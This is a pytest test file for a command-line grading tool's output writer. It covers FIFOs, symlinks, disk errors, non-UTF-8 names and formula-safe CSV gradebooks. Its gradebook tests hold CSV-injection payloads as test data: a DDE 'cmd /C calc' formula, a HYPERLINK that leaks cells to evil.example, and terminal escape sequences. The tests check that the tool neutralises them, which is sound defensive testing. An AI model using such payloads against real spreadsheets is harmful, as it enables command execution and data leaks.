"""Output files: what ``-o`` and ``--csv`` do to whatever the path names, the errors of the system
as one-line messages, file names that are not UTF-8, and a gradebook no spreadsheet runs as
formulas."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import shutil
import stat
import subprocess
import sys
import textwrap
import threading
from pathlib import Path

import pytest
from click.testing import CliRunner

from cnncheck import fileio
from cnncheck.cli import cli
from cnncheck.fileio import OutputError, write_atomic
from cnncheck.textsafe import shown_path

ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = ROOT / "answers.example.yaml"
HANG = 20  # seconds: a hang detector, not a timing assertion
FORMULA = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
)  # OWASP, CSV injection: the characters a spreadsheet runs


def run(*args, env=None):
    return CliRunner().invoke(
        cli, [os.fspath(a) for a in args], env={"COLUMNS": "200", **(env or {})}
    )


def grade_json(*more):
    """``cnncheck grade answers.example.yaml --format json`` and more options (the example is below
    full marks)."""
    return run("grade", EXAMPLE, "--format", "json", *more)


@pytest.fixture(scope="module")
def report_text():
    r = grade_json()
    assert r.exit_code == 1, r.output
    return r.stdout


def leftovers(*folders) -> list:
    """Temporary files write_atomic may have left behind."""
    return [p for folder in folders for p in Path(folder).iterdir() if p.name.endswith(".tmp")]


def error_line(path) -> str:
    return f"cnncheck: error: {shown_path(path)}: cannot write: "


# --- what is at the path: written through, followed, kept -----------------------------------------


def test_fifo_is_written_through_not_replaced(tmp_path, report_text):
    fifo = tmp_path / "report.json"
    os.mkfifo(fifo)
    got = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()), daemon=True)
    reader.start()
    r = grade_json("-o", fifo)
    reader.join(HANG)
    assert r.exit_code == 1, r.output
    assert not reader.is_alive(), "nothing was written into the FIFO"
    assert got == [report_text.encode()]
    assert stat.S_ISFIFO(
        os.stat(fifo).st_mode
    )  # still the FIFO, not a regular file renamed over it
    assert leftovers(tmp_path) == []


def test_fifo_read_by_another_process(tmp_path, report_text):
    fifo = tmp_path / "report.json"
    os.mkfifo(fifo)
    cat = subprocess.Popen(["cat", str(fifo)], stdout=subprocess.PIPE)
    try:
        r = grade_json("-o", fifo)
        out, _ = cat.communicate(timeout=HANG)
    finally:
        cat.kill()  # if nothing was written into the FIFO, cat still waits for it
        cat.wait()
    assert r.exit_code == 1, r.output
    assert out.decode() == report_text
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)


def _device(tmp_path, name: str, minor: int) -> Path:
    """A character device made in tmp_path (1,3 is null, 1,7 is full): never the system's own."""
    dev = tmp_path / name
    try:
        os.mknod(dev, stat.S_IFCHR | 0o666, os.makedev(1, minor))
    except PermissionError:
        pytest.skip("this system does not let the tests make a device node (mknod)")
    return dev


def test_null_device_is_written_through(tmp_path):
    null = _device(tmp_path, "null", 3)
    r = grade_json("-o", null)
    assert r.exit_code == 1, r.output
    st = os.stat(null)
    assert stat.S_ISCHR(st.st_mode) and st.st_rdev == os.makedev(1, 3)  # the device is still there
    assert leftovers(tmp_path) == []


def test_full_device_says_no_space_in_one_line(tmp_path):
    full = _device(tmp_path, "full", 7)
    r = grade_json("-o", full)
    assert r.exit_code == 2
    assert r.stderr == error_line(full) + "No space left on device\n"
    assert r.stdout == ""
    assert stat.S_ISCHR(os.stat(full).st_mode)
    assert leftovers(tmp_path) == []


def test_csv_into_a_fifo(tmp_path):
    fifo = tmp_path / "grades.csv"
    os.mkfifo(fifo)
    got = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_text()), daemon=True)
    reader.start()
    r = run("grade", EXAMPLE, "--csv", fifo)
    reader.join(HANG)
    assert r.exit_code == 1, r.output
    assert not reader.is_alive()
    assert got[0].startswith("file,student,assignment,q1,")
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)


def test_symlink_is_kept_and_its_target_replaced(tmp_path, report_text):
    (tmp_path / "reports").mkdir()
    (tmp_path / "links").mkdir()
    real = tmp_path / "reports" / "report.json"
    real.write_text("old\n")
    real.chmod(0o640)
    link = tmp_path / "links" / "report.json"
    link.symlink_to(Path("..") / "reports" / "report.json")
    r = grade_json("-o", link)
    assert r.exit_code == 1, r.output
    assert link.is_symlink() and os.readlink(link) == os.path.join("..", "reports", "report.json")
    assert real.read_text() == report_text
    assert stat.S_IMODE(real.stat().st_mode) == 0o640
    assert leftovers(tmp_path / "reports", tmp_path / "links") == []


def test_csv_through_a_symlink(tmp_path):
    real = tmp_path / "grades.csv"
    real.write_text("old\n")
    link = tmp_path / "latest.csv"
    link.symlink_to("grades.csv")
    r = run("grade", EXAMPLE, "--csv", link)
    assert r.exit_code == 1, r.output
    assert link.is_symlink() and real.read_text().startswith("file,student,")


def test_dangling_symlink_creates_its_target(tmp_path, report_text):
    (tmp_path / "out").mkdir()
    link = tmp_path / "report.json"
    link.symlink_to(Path("out") / "new.json")
    r = grade_json("-o", link)
    assert r.exit_code == 1, r.output
    assert link.is_symlink()
    assert (tmp_path / "out" / "new.json").read_text() == report_text


def test_dangling_symlink_into_a_missing_folder(tmp_path):
    link = tmp_path / "report.json"
    link.symlink_to(Path("nowhere") / "new.json")
    r = grade_json("-o", link)
    assert r.exit_code == 2
    assert r.stderr == error_line(link) + "No such file or directory\n"
    assert link.is_symlink() and os.readlink(link) == os.path.join("nowhere", "new.json")
    assert leftovers(tmp_path) == []


@pytest.mark.parametrize("mode", [0o600, 0o640, 0o604, 0o664])
def test_mode_of_a_replaced_file_is_kept(tmp_path, mode):
    out = tmp_path / "report.json"
    out.write_text("old\n")
    out.chmod(mode)
    r = grade_json("-o", out)
    assert r.exit_code == 1, r.output
    assert stat.S_IMODE(out.stat().st_mode) == mode
    assert out.read_text().startswith("{")


def test_owner_of_a_replaced_file_is_kept(tmp_path):
    out = tmp_path / "grades.csv"
    out.write_text("old\n")
    owner = (
        (12345, 12346) if os.geteuid() == 0 else (os.getuid(), os.getgid())
    )  # only root may give files away
    os.chown(out, *owner)
    r = run("grade", EXAMPLE, "--csv", out)
    assert r.exit_code == 1, r.output
    st = out.stat()
    assert (st.st_uid, st.st_gid) == owner
    assert out.read_text().startswith("file,")


@pytest.mark.parametrize("umask", [0o022, 0o027, 0o002])
def test_new_file_gets_the_mode_any_program_gives(tmp_path, umask):
    old = os.umask(umask)
    try:
        r = grade_json("-o", tmp_path / "report.json")
    finally:
        os.umask(old)
    assert r.exit_code == 1, r.output
    assert stat.S_IMODE((tmp_path / "report.json").stat().st_mode) == 0o666 & ~umask


def test_directory_is_an_error(tmp_path):
    (tmp_path / "d").mkdir()
    (tmp_path / "to-d").symlink_to("d")
    for target in (tmp_path / "d", tmp_path / "to-d"):
        with pytest.raises(OutputError) as e:
            write_atomic(target, "text")
        assert str(e.value) == f"{target}: cannot write: it is a directory"
    assert list((tmp_path / "d").iterdir()) == [] and (tmp_path / "to-d").is_symlink()
    r = grade_json("-o", tmp_path / "d")  # the command line refuses it before grading
    assert r.exit_code == 2 and f"'{tmp_path / 'd'}' is a directory" in r.output


def test_file_the_user_may_not_write_is_kept(tmp_path, monkeypatch):
    out = tmp_path / "report.json"
    out.write_text("old\n")
    out.chmod(0o444)
    if os.geteuid() == 0:  # root may write anything: the system says no as it would to a user
        real_access = os.access
        monkeypatch.setattr(
            fileio.os,
            "access",
            lambda path, mode, **k: mode != os.W_OK and real_access(path, mode, **k),
        )
    r = grade_json("-o", out)
    monkeypatch.undo()
    assert r.exit_code == 2
    assert r.stderr == error_line(out) + "Permission denied\n"
    assert out.read_text() == "old\n" and stat.S_IMODE(out.stat().st_mode) == 0o444
    assert leftovers(tmp_path) == []


def test_empty_path_is_an_error():
    with pytest.raises(OutputError, match=r"^<input>: cannot write: the file name is empty$"):
        write_atomic("", "text")


def test_text_that_is_not_unicode_is_written_escaped(tmp_path):
    write_atomic(tmp_path / "out.txt", "caf\udce9\n")
    assert (tmp_path / "out.txt").read_bytes() == b"caf\\udce9\n"


def test_long_name_that_the_system_accepts(tmp_path, report_text):
    out = tmp_path / ("r" * 250)  # the temporary file's name is cut, so it fits too
    r = grade_json("-o", out)
    assert r.exit_code == 1, r.output
    assert out.read_text() == report_text


# --- errors of the system: one line, exit 2, the old file intact, nothing left behind -------------


def test_missing_folder(tmp_path):
    out = tmp_path / "nowhere" / "report.json"
    r = grade_json("-o", out)
    assert r.exit_code == 2
    assert r.stderr == error_line(out) + "No such file or directory\n"
    assert r.stdout == ""
    r = run("grade", EXAMPLE, "--csv", out)
    assert r.exit_code == 2 and r.stderr == error_line(out) + "No such file or directory\n"


def test_name_too_long(tmp_path):
    out = tmp_path / ("x" * 300)
    for option in ("-o", "--csv"):
        r = run("grade", EXAMPLE, "--format", "json", option, out)
        assert r.exit_code == 2
        assert r.stderr == error_line(out) + "File name too long\n"
    assert leftovers(tmp_path) == []


def _enospc(*a):
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


def test_disk_full_while_writing(tmp_path, monkeypatch):
    out = tmp_path / "report.json"
    out.write_text("old\n")
    real_write = os.write
    calls = []

    def write_then_fill(fd, data):  # the first block goes in, then the disk is full
        calls.append(len(data))
        if len(calls) > 1:
            _enospc()
        return real_write(fd, bytes(data)[:100])

    monkeypatch.setattr(fileio.os, "write", write_then_fill)
    r = grade_json("-o", out)
    monkeypatch.undo()
    assert len(calls) == 2
    assert r.exit_code == 2
    assert r.stderr == error_line(out) + "No space left on device\n"
    assert out.read_text() == "old\n"
    assert leftovers(tmp_path) == []


def test_disk_full_at_sync(tmp_path, monkeypatch):
    out = tmp_path / "grades.csv"
    out.write_text("old\n")
    monkeypatch.setattr(fileio.os, "fsync", _enospc)
    r = run("grade", EXAMPLE, "--csv", out)
    monkeypatch.undo()
    assert r.exit_code == 2
    assert r.stderr == error_line(out) + "No space left on device\n"
    assert out.read_text() == "old\n"
    assert leftovers(tmp_path) == []


def test_file_size_limit(tmp_path):
    # RLIMIT_FSIZE in a child: a write past it fails with EFBIG (Python ignores SIGXFSZ at startup)
    out = tmp_path / "report.json"
    out.write_text("old\n")
    code = textwrap.dedent("""
        import resource, sys
        resource.setrlimit(resource.RLIMIT_FSIZE, (2000, 2000))
        sys.argv[0] = "cnncheck"
        from cnncheck.cli import main
        main()
    """)
    p = subprocess.run(
        [sys.executable, "-c", code, "grade", str(EXAMPLE), "--format", "json", "-o", str(out)],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=tmp_path,
    )
    assert p.returncode == 2, p.stderr
    assert p.stderr == error_line(out) + "File too large\n"
    assert out.read_text() == "old\n"
    assert leftovers(tmp_path) == []


def test_read_only_file_system(tmp_path, monkeypatch):
    out = tmp_path / "report.json"
    out.write_text("old\n")
    real_open = os.open

    def read_only(path, flags, *a):
        if flags & os.O_CREAT:
            raise OSError(errno.EROFS, os.strerror(errno.EROFS), path)
        return real_open(path, flags, *a)

    monkeypatch.setattr(fileio.os, "open", read_only)
    r = grade_json("-o", out)
    monkeypatch.undo()
    assert r.exit_code == 2
    assert r.stderr == error_line(out) + "Read-only file system\n"
    assert out.read_text() == "old\n"


def test_folder_that_takes_no_new_file(tmp_path):
    if (
        os.geteuid() == 0
    ):  # root writes anywhere a permission allows: /proc takes no new file, whoever asks
        out, reason = Path("/proc") / "report.json", "No such file or directory"
    else:
        (tmp_path / "ro").mkdir()
        (tmp_path / "ro").chmod(0o555)
        out, reason = tmp_path / "ro" / "report.json", "Permission denied"
    r = grade_json("-o", out)
    assert r.exit_code == 2
    assert r.stderr == error_line(out) + reason + "\n"
    assert not out.exists()


def test_output_error_is_an_input_error():
    from cnncheck.yamlio import InputError

    e = OutputError("caf\udce9/\x1b[2Jr.json", "cannot write: No space left on device")
    assert isinstance(e, InputError)
    assert str(e) == "caf\\udce9/\\x1b[2Jr.json: cannot write: No space left on device"


# --- file names that are not UTF-8 ----------------------------------------------------------------


@pytest.fixture
def latin1_class(tmp_path):
    """A class folder with a file named in Latin-1 (``café.yaml``) and an unreadable one
    (``bad\\xff.yaml``)."""
    folder = tmp_path / "class"
    folder.mkdir()
    good = folder / os.fsdecode(
        b"caf\xe9.yaml"
    )  # Python keeps the byte as a lone surrogate, \udce9
    shutil.copy(EXAMPLE, good)
    bad = folder / os.fsdecode(b"bad\xff.yaml")
    bad.write_text("answers: [\n")
    return folder, good, bad


def _utf8(path: Path) -> str:
    return path.read_bytes().decode("utf-8")  # strict: fails on a raw surrogate or byte


@pytest.mark.parametrize("fmt", ["json", "csv", "junit", "github", "table"])
def test_non_utf8_names_in_every_format(tmp_path, latin1_class, fmt):
    folder, good, bad = latin1_class
    out = tmp_path / f"report.{fmt}"
    r = run("grade", folder, "--format", fmt, "-o", out)
    assert r.exit_code == 2, r.output  # one file cannot be read; the other is graded
    shown = [str(bad).replace("\udcff", "\\udcff"), str(good).replace("\udce9", "\\udce9")]
    for text in (_utf8(out), run("grade", folder, "--format", fmt).stdout):
        assert "\udce9" not in text and "\udcff" not in text
        if fmt == "json":
            assert [item["file"] for item in json.loads(text)] == shown
        else:
            assert shown[0] in text and shown[1] in text


def test_non_utf8_name_in_json_and_gradescope(tmp_path, latin1_class):
    _, good, _ = latin1_class
    r = run("grade", good, "--format", "json", "-o", tmp_path / "r.json")
    assert r.exit_code == 1, r.output
    assert json.loads(_utf8(tmp_path / "r.json"))["file"] == str(good).replace("\udce9", "\\udce9")
    r = run("grade", good, "--format", "gradescope", "-o", tmp_path / "results.json")
    assert r.exit_code == 1, r.output
    assert json.loads(_utf8(tmp_path / "results.json"))["score"] == 11


def test_non_utf8_names_in_the_gradebook(tmp_path, latin1_class):
    folder, good, bad = latin1_class
    r = run("grade", folder, "--csv", tmp_path / "grades.csv", "--summary")
    assert r.exit_code == 2, r.output
    rows = list(csv.reader(io.StringIO(_utf8(tmp_path / "grades.csv"))))
    assert [row[0] for row in rows[1:]] == [
        str(bad).replace("\udcff", "\\udcff"),
        str(good).replace("\udce9", "\\udce9"),
    ]


def test_escapes_in_a_name_and_an_answer(tmp_path):
    # YAML's own escapes: the C reader refuses a lone surrogate (\\udce9), so escapes are what a
    # file can hold
    answers = tmp_path / "answers.yaml"
    answers.write_text(
        EXAMPLE.read_text()
        .replace("student: jdoe", 'student: "j\\x1b[2J\\u00e9"')
        .replace("q6: Because the network gets deeper.", 'q6: "\\x07Because\\x1b]0;t\\x07 deeper."')
    )
    for fmt in ("json", "csv", "junit", "github", "gradescope", "markdown", "table"):
        out = tmp_path / f"r.{fmt}"
        r = run("grade", answers, "--format", fmt, "-o", out)
        assert r.exit_code == 1, (fmt, r.output)
        text = _utf8(out)
        assert "\x1b" not in text and "\x07" not in text, fmt
        if fmt == "markdown":  # Markdown escapes its punctuation too
            text = re.sub(r"\\(.)", r"\1", text)
        assert "j\\x1b[2Jé" in text.replace("\\\\", "\\"), fmt
    data = json.loads((tmp_path / "r.json").read_text())
    assert data["student"] == "j\\x1b[2Jé"
    assert (
        next(q for q in data["questions"] if q["id"] == "q6")["answer"]
        == "\\x07Because\\x1b]0;t\\x07 deeper."
    )


# --- a gradebook no spreadsheet runs --------------------------------------------------------------

HOSTILE_BANK = """\
assignment: "=cmd|' /C calc'!A0"
title: a bank whose ids look like formulas
questions:
  "+q1":
    kind: text
    points: 1
    prompt: Say something.
  "@q2":
    kind: output_shape
    points: 1
    input_shape: [3, 8, 8]
    layer: {type: conv2d, filters: 4, kernel: 3}
"""

STUDENTS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"grades")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\\t=1+1",
    "\\r=1+1",
    "\\x1b[2Jjdoe",
]
NAMES = ["=cmd.yaml", "+x.yaml", "-x.yaml", "@x.yaml", "\tx.yaml", "\rx.yaml", "a\x1b[2Jb.yaml"]


def _check_cells(text: str) -> list[list[str]]:
    """Every cell safe: no formula start, no control character but the new lines of a written
    answer."""
    assert "\x1b" not in text
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA), (cell, row)
            assert all(c.isprintable() or c in " \n" for c in cell), (cell, row)
    return rows


def test_gradebook_cells_are_never_formulas(tmp_path, monkeypatch):
    bank = tmp_path / "bank.yaml"
    bank.write_text(HOSTILE_BANK)
    folder = tmp_path / "class"
    folder.mkdir()
    for i, (name, student) in enumerate(zip(NAMES, STUDENTS)):
        quoted = student.replace('"', '\\"')
        (folder / name).write_text(
            textwrap.dedent(f"""\
            student: "{quoted}"
            answers:
              "+q1": "=1+1\\n@SUM(A1)\\x1b[31m\\t-2 #{i}"
              "@q2": 4x6x6
        """)
        )
    (folder / "=bad.yaml").write_text("answers: [\n")
    monkeypatch.chdir(folder)  # file names as given: the first characters of the file cells
    r = run(
        "--bank",
        bank,
        "grade",
        "--csv",
        tmp_path / "grades.csv",
        "--summary",
        "--",
        *NAMES,
        "=bad.yaml",
    )
    assert r.exit_code == 2, r.output
    rows = _check_cells(_utf8(tmp_path / "grades.csv"))
    assert rows[0] == [
        "file",
        "student",
        "assignment",
        "'+q1",
        "'+q1 (answer)",
        "'@q2",
        "total",
        "max",
        "error",
    ]
    by_file = {row[0]: row for row in rows[1:]}
    assert by_file["'=bad.yaml"][8].startswith("'=bad.yaml:2: ")
    row = by_file["'=cmd.yaml"]
    assert row[1] == """'=HYPERLINK("http://evil.example/?leak="&A1,"grades")"""
    assert row[2] == "'=cmd|' /C calc'!A0"
    assert row[4] == "'=1+1\n@SUM(A1)\\x1b[31m\\t-2 #0"
    assert row[5:8] == ["1", "1", "2"]
    assert (
        by_file["\\tx.yaml"][1] == "'=1+1" and by_file["\\rx.yaml"][1] == "'=1+1"
    )  # names are stripped
    assert by_file["a\\x1b[2Jb.yaml"][1] == "\\x1b[2Jjdoe"
    assert [by_file[n][1] for n in ("'+x.yaml", "'-x.yaml", "'@x.yaml")] == [
        "'+1+1",
        "'-2+3",
        "'@SUM(A1:A9)",
    ]


def test_gradebook_on_stdout_carries_nothing_raw(tmp_path):
    folder = tmp_path / "class"
    folder.mkdir()
    shutil.copy(EXAMPLE, folder / "=x\x1b]0;title\x07.yaml")
    r = run("grade", folder, "--format", "csv")
    assert r.exit_code == 1, r.output
    rows = _check_cells(r.stdout)
    assert rows[1][0] == str(folder / "=x\\x1b]0;title\\x07.yaml")


# --- questions graded by hand in solve, generate, template ----------------------------------------

BY_HAND_BANK = """\
assignment: essays
title: Questions in words
questions:
  q1:
    kind: text
    points: 2
    prompt: Why do CNNs use pooling layers?
  q2:
    kind: text
    points: 2
    prompt: What is a stride?
    rubric:
      - idea: the step of the window
        phrases: [step]
"""


@pytest.fixture
def by_hand_bank(tmp_path):
    bank = tmp_path / "essays.yaml"
    bank.write_text(BY_HAND_BANK)
    return bank


@pytest.mark.parametrize("explain", [[], ["--explain"]])
def test_solve_table_shows_a_question_graded_by_hand(by_hand_bank, explain):
    r = run("--bank", by_hand_bank, "solve", "--all", *explain)
    assert r.exit_code == 0, r.output
    assert "graded by hand: no answer key, a TA grades each answer" in r.stdout
    assert "• the step of the window (1)" in r.stdout


def test_solve_json_names_the_questions_graded_by_hand(by_hand_bank):
    r = run("--bank", by_hand_bank, "solve", "--all", "--format", "json", "--explain")
    assert r.exit_code == 0, r.output
    data = json.loads(r.stdout)
    assert data["answers"] == {"q1": None, "q2": [{"idea": "the step of the window", "points": 1}]}
    assert data["by_hand"] == ["q1"]
    assert data["working"]["q1"] == [{"text": "This question is graded by hand.", "value": None}]
    r = run("--bank", by_hand_bank, "solve", "q2", "--format", "json")
    assert "by_hand" not in json.loads(r.stdout)


def test_sheets_and_templates_of_a_question_graded_by_hand(by_hand_bank, tmp_path):
    r = run("--bank", by_hand_bank, "generate")
    assert r.exit_code == 0, r.output
    assert "by hand: the answer waits for a TA" in r.stdout
    r = run("--bank", by_hand_bank, "generate", "-o", tmp_path / "sheet.md")
    assert r.exit_code == 0, r.output
    assert (
        "- **grading**: by hand: the answer waits for a TA (status manual)"
        in (tmp_path / "sheet.md").read_text()
    )
    r = run("--bank", by_hand_bank, "template")
    assert r.exit_code == 0, r.output
    assert (
        "  # answer: a few sentences, in words, on the indented lines below the id's |\n"
        "  q1: |\n" in r.stdout
    )
    r = run("--bank", by_hand_bank, "list", "--format", "json")
    assert r.exit_code == 0 and json.loads(r.stdout)["assignments"][0]["questions"][0]["id"] == "q1"
